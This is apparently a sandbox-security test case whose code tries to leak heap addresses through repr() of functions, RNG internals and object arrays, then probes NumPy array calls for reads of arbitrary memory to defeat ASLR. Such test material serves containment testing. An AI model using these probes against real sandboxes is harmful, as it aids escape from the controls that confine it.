# class: numpy_raw_memory
# expect: contained
# attack: the address half of addrof needs no raw memory at all: repr() of functions, of the bit generator's capsule and lock, and of an object array holding anything prints heap addresses (id() is not a builtin, repr is), which defeats ASLR for whatever memory bug comes next; the program collects them and probes whether any array call reads memory at a chosen address
rng = np.random.default_rng(5)
holder = rng.permutation([None, None, None])
holder[0] = get_object_pose
holder[1] = print
leaks = []
for thing in (print, get_object_pose, rng.bit_generator.capsule, rng.bit_generator.lock, holder, Pose.copy, np.linalg.norm):
    text = repr(thing)
    at = text.find(" at 0x")
    if at >= 0:
        leaks.append(int(text[at + 4 : at + 4 + 18].split(">")[0].split(",")[0], 16))
print("addresses:", ["%x" % a for a in leaks])
for address in leaks[:2]:
    for probe in (
        lambda: np.zeros(4, dtype=np.int64).take([address, -address], mode="clip"),
        lambda: np.arange(8)[address % 8 :],
        lambda: rng.bit_generator.random_raw(size=2),
    ):
        try:
            print(repr(probe())[:60])
        except Exception as exc:
            print("refused:", str(exc)[:60])
